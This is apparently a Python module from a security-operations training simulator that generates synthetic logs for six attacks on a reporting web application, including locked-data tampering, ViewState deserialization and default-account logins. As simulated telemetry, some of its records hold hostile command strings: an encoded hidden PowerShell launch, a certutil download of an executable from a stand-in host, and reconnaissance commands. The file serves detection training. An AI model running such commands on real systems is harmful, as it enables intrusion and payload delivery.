"""Threats to reporting and shared software."""

from __future__ import annotations

from soc.simulate import stamps
from soc.simulate.deeds import ANY, EVENING, NIGHT, Attempt, Threat
from soc.simulate.records import reporting as form
from soc.simulate.streams.reporting import IIS, INDICATOR, KPI, SET, SHARED_IIS, WEB, WINDOWS

FAMILY = "reporting-shared"


def _edit_locked(deed: Attempt) -> None:
    user, ip = deed.pick(deed.pick(*deed.world.units).officers[0], *deed.world.admins), deed.stranger()
    source, period = deed.pick(INDICATOR, KPI, SET), stamps.day(deed.now - 70 * 86400)[:7]
    if deed.way("unlocked before", "directly") == "unlocked before":
        deed.log(source, form.indicator(deed.now, user, "tinh", "UNLOCK", "*", period, "LOCKED", ip))
    for _ in range(deed.draw.upto(1, 4)):
        name, new = f"CS-{deed.draw.upto(1, 42):02d}", f"{deed.draw.upto(900, 999) / 10}"
        action = deed.pick("UPDATE", "UPDATE", "DELETE")
        deed.log(
            source,
            form.indicator(
                deed.wait(60, 300), user, "tinh", action, name, period, "LOCKED", ip, oldValue="71.2", newValue=new
            ),
        )
    deed.about("user.name", user)


def _viewstate(deed: Attempt) -> None:
    ip = deed.stranger()
    for _ in range(deed.draw.upto(1, 5)):
        if deed.way("application event", "web log") == "web log":
            agent = "python-requests/2.31"
            deed.log(
                IIS,
                form.iis(
                    deed.wait(2, 30),
                    deed.world.servers["report-web"],
                    "POST",
                    "/baocao/default.aspx",
                    "",
                    "",
                    ip,
                    agent,
                    500,
                    900,
                ),
            )
        text = (
            "Event code: 4009-++-Viewstate verification failed. Reason: Viewstate was invalid. "
            f"Request path: /baocao/default.aspx User host address: {ip}"
        )
        deed.log(WINDOWS, form.aspnet(deed.wait(1, 9), WEB, 1316, text))
    child, command = deed.pick(
        ("cmd.exe", "cmd.exe /c whoami"),
        ("powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA"),
        ("csc.exe", "csc.exe /noconfig @a.cmdline"),
        ("certutil.exe", "certutil.exe -urlcache -f http://x.invalid/a a.exe"),
    )
    deed.log(WINDOWS, form.process(deed.wait(5, 300), WEB, child, command, "w3wp.exe", "BaoCaoPool"))
    deed.about("host.name", WEB)


def _web_child(deed: Attempt) -> None:
    parent = deed.way("w3wp.exe", "tomcat9.exe", "java.exe", "php-cgi.exe")
    for _ in range(deed.draw.upto(1, 4)):
        child, command = deed.pick(
            ("cmd.exe", "cmd.exe /c ipconfig /all"),
            ("powershell.exe", "powershell -c Get-Process"),
            ("whoami.exe", "whoami /all"),
            ("net.exe", "net user"),
        )
        deed.log(
            WINDOWS,
            form.process(
                deed.wait(3, 60), WEB, child, command, parent, deed.pick("BaoCaoPool", "IUSR", "DefaultAppPool")
            ),
        )
    deed.about("host.name", WEB)


def _bulk_export(deed: Attempt) -> None:
    ip, user = deed.stranger(), deed.pick("svc.ioc", "svc.baocao", "svc.tonghop")
    page = deed.pick("/baocao/xuatexcel", "/baocao/xuat", "/baocao/xuatdulieu")
    agent = deed.pick("curl/8.5.0", "Mozilla/5.0", "python-requests/2.31")
    for _ in range(deed.draw.upto(1, 6)):
        deed.log(
            IIS,
            form.iis(
                deed.wait(5, 90),
                deed.world.servers["report-web"],
                "GET",
                page,
                "all=1",
                f"DN\\{user}",
                ip,
                agent,
                200,
                40_000,
            ),
        )
    deed.about("user.name", user)


def _no_consolidation(deed: Attempt) -> None:
    """The batches of one night do not come: the silence begins in the evening and ends after they would have run."""
    deed.now -= 600
    for source in (INDICATOR,) if deed.way("one system", "all") == "one system" else (INDICATOR, KPI, SET):
        deed.silence(source, 8 * 3600, "CONSOLIDATE")


def _default_account(deed: Attempt) -> None:
    ip, user = deed.stranger(), deed.pick("admin", "administrator", "sa", "test", "demo", "quantri")
    period = stamps.day(deed.now)[:7]
    if deed.way("audit", "web") == "audit":
        deed.log(deed.pick(INDICATOR, KPI), form.indicator(deed.now, user, "tinh", "LOGIN", "-", period, "OPEN", ip))
    else:
        agent = "Mozilla/5.0"
        for _ in range(3):
            deed.log(
                SHARED_IIS,
                form.iis(
                    deed.wait(1, 20),
                    deed.world.servers["report-web"],
                    "POST",
                    "/dungchung/dangnhap",
                    "",
                    user,
                    ip,
                    agent,
                    200,
                    60,
                ),
            )
    deed.about("user.name", user)


THREATS = (
    Threat("indicator-edit-locked", FAMILY, (*EVENING, *NIGHT), _edit_locked),
    Threat("viewstate-deser", FAMILY, ANY, _viewstate),
    Threat("w3wp-child", FAMILY, ANY, _web_child),
    Threat("report-bulk-export", FAMILY, ANY, _bulk_export),
    Threat("report-batch-missing", FAMILY, (21,), _no_consolidation),
    Threat("shared-default-account", FAMILY, ANY, _default_account),
)
